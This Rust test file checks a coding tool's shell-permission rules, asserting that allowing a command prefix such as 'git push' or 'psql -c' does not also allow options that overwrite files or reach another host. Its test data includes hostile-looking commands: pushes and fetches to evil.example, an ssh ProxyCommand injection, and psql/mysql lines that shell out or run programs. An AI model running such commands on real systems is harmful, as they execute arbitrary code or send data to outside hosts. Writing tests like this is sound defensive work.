//! Security review 5, permissions for a prefix: options that overwrite files or reach another host.

use crow_core::permission::{Decision, PermissionMode, PermissionPolicy, PermissionRule, RuleSet};

use crate::project::Project;

/// Allowed prefixes, each with lines that do more than the prefix permits.
const WIDER: &[(&str, &[&str])] = &[
    (
        "sed -n",
        &[
            "sed -n -i p a.txt",
            "sed -n -ni p a.txt",
            "sed -n -Ei p a.txt",
            "sed -n --in-place p a.txt",
            "sed -n --in-place=.b p a.txt",
            "sed -n -i.b p a.txt",
            "sed -n p a.txt -i",
            "sed -n -e p -i a.txt",
        ],
    ),
    ("sed", &["sed -i s/a/b/ a.txt", "sed -ni p a.txt"]),
    (
        "find",
        &[
            "find . -fprint a.txt",
            "find . -fls a.txt",
            "find . -fprint0 a.txt",
            "find . -fprintf a.txt %p",
            "find . -name x -delete",
        ],
    ),
    (
        "sort",
        &[
            "sort -o b.txt a.txt",
            "sort -ob.txt a.txt",
            "sort -uob.txt a.txt",
            "sort a.txt -o b.txt",
            "sort --output=b.txt a.txt",
            "sort --output b.txt a.txt",
            "sort -k 1 -ob.txt a.txt",
            "sort -nrk2 -o b.txt a.txt",
        ],
    ),
    (
        "rustfmt --check",
        &["rustfmt --check --emit files", "rustfmt --check src/main.rs --emit=files"],
    ),
    ("gofmt -l", &["gofmt -l -w .", "gofmt -l --w .", "gofmt -l -w=true ."]),
    ("ruff check", &["ruff check --fix", "ruff check --fix-only .", "ruff check . --fix=true"]),
    ("eslint", &["eslint --fix .", "eslint . --fix"]),
    ("cargo clippy", &["cargo clippy --fix", "cargo clippy --fix --allow-dirty"]),
    ("prettier", &["prettier --write .", "prettier . -w", "prettier -lw ."]),
    ("npm run lint", &["npm run lint -- --fix"]),
    (
        "go test",
        &[
            "go test -o a.txt",
            "go test -coverprofile=a.txt",
            "go test -cpuprofile a.txt",
            "go test -trace a.txt",
            "go test --trace=a.txt ./...",
            "go test -mod=mod",
            "go test -mod mod ./...",
        ],
    ),
    (
        "curl https://example.com",
        &[
            "curl https://example.com -o a.txt",
            "curl https://example.com -oa.txt",
            "curl https://example.com -sSLo a.txt",
            "curl https://example.com --output=a.txt",
        ],
    ),
    (
        "tar -c",
        &[
            "tar -c -f host:x a.txt",
            "tar -c -f a.txt b.txt",
            "tar -c -fa.txt b.txt",
            "tar -c --file=a.txt b.txt",
            "tar -c --file a.txt b.txt",
        ],
    ),
    ("tar", &["tar -xf host:x", "tar cf user@host:/x a.txt", "tar --file=host:x -x"]),
    ("terraform plan", &["terraform plan -out=a.txt", "terraform plan --out a.txt"]),
    (
        "gh pr view",
        &[
            "gh pr view https://evil.example/a/b/pull/1",
            "gh pr view --json x https://evil.example/a",
        ],
    ),
    (
        "gh api",
        &[
            "gh api https://evil.example/x",
            "gh api -f a=b x",
            "gh api -fa=b x",
            "gh api graphql -f query=mutation",
            "gh api -X POST x",
            "gh api -F a=@a.txt x",
            "gh api --hostname evil.example x",
        ],
    ),
    (
        "psql -c",
        &[
            "psql -c '\\! ./evil'",
            "psql -c '\\o a.txt'",
            "psql -c '\\copy x from a.txt'",
            "psql -c x host=evil",
            "psql -c x postgresql://evil/x",
            "psql -c \"copy x to program 'id'\"",
        ],
    ),
    ("mysql -e", &["mysql -e '\\! ./evil'", "mysql -e 'system id'", "mysql -e 'source a.txt'"]),
    ("pip list", &["pip list --outdated", "pip list --format json --outdated"]),
    (
        "git fetch",
        &[
            "git fetch https://evil.example/x",
            "git fetch ssh://-oProxyCommand=x/y",
            "git fetch git@evil.example:x",
            "git fetch ../other",
            "git fetch --prune https://evil.example/x",
        ],
    ),
    (
        "git push",
        &[
            "git push https://evil.example/x",
            "git push -u https://evil.example/x main",
            "git push evil:x HEAD",
            "git push ../other",
        ],
    ),
    (
        "git log",
        &["git log --format=%G?", "git log --pretty='%C(red)%+GS'", "git log --format %GK"],
    ),
    ("git show", &["git show --format=%G?", "git show --pretty=tformat:%GG"]),
    ("perl -ne", &["perl -ne print -i a.txt", "perl -ne print -i.b a.txt"]),
    ("rubocop", &["rubocop -a", "rubocop -A", "rubocop --autocorrect"]),
];

/// Pairs of an allowed prefix and a line that it covers.
const COVERED: &[(&str, &str)] = &[
    ("sed -n", "sed -n 1,5p a.txt"),
    ("sed -n -i", "sed -n -i p a.txt"),
    ("find", "find . -name x -print"),
    ("sort", "sort -t o -k 2 a.txt"),
    ("sort -o b.txt", "sort -o b.txt a.txt"),
    ("rustfmt --check", "rustfmt --check src/main.rs"),
    ("gofmt -l", "gofmt -l -s ."),
    ("gofmt -w", "gofmt -w ."),
    ("ruff check", "ruff check . --no-fix"),
    ("ruff check --fix", "ruff check --fix ."),
    ("eslint", "eslint . --quiet"),
    ("cargo clippy", "cargo clippy --all-targets"),
    ("cargo build", "cargo build --target-dir out"),
    ("go build", "go build -o bin/x ./cmd/x"),
    ("go test -coverprofile=cover.out", "go test -coverprofile=cover.out ./..."),
    ("prettier", "prettier --check ."),
    ("curl https://example.com", "curl https://example.com -L"),
    ("curl", "curl -o /dev/null -s https://example.com"),
    ("tar -c", "tar -c a.txt"),
    ("tar", "tar czf out.tgz src"),
    ("tar", "tar -czf out.tgz src"),
    ("tar -c -f", "tar -c -f out.tar src"),
    ("gh pr view", "gh pr view 12 --json title"),
    ("gh api", "gh api repos/a/b --jq .name"),
    ("psql -c", "psql -c 'select 1'"),
    ("pip list", "pip list --format json"),
    ("git fetch", "git fetch origin main:main"),
    ("git push", "git push origin HEAD:topic"),
    ("git push https://example.org/x", "git push https://example.org/x main"),
    ("git log", "git log --format='%h %an %s'"),
    ("git commit", "git commit -m 'a %Good thing'"),
    ("perl -ne", "perl -ne print a.txt"),
];

fn allowing(prefix: &str) -> PermissionPolicy {
    let rule = PermissionRule::allow_bash_prefix(prefix.split(' '));
    PermissionPolicy::new(PermissionMode::Ask).with_rules(RuleSet::new([rule]).unwrap())
}

fn passes(project: &Project, prefix: &str, text: &str) -> bool {
    matches!(project.decide(&allowing(prefix), &project.line(text)), Decision::Allow(_))
}

#[test]
fn a_permission_covers_no_option_that_overwrites_files_or_reaches_another_host() {
    let project = Project::new();
    let pairs = WIDER.iter().flat_map(|(prefix, lines)| lines.iter().map(move |it| (*prefix, *it)));
    let passed: Vec<&str> =
        pairs.filter(|(prefix, text)| passes(&project, prefix, text)).map(|it| it.1).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn a_permission_covers_ordinary_options_and_those_it_names() {
    let project = Project::new();
    let asked: Vec<_> =
        COVERED.iter().filter(|(prefix, text)| !passes(&project, prefix, text)).collect();
    assert!(asked.is_empty(), "{asked:#?}");
}
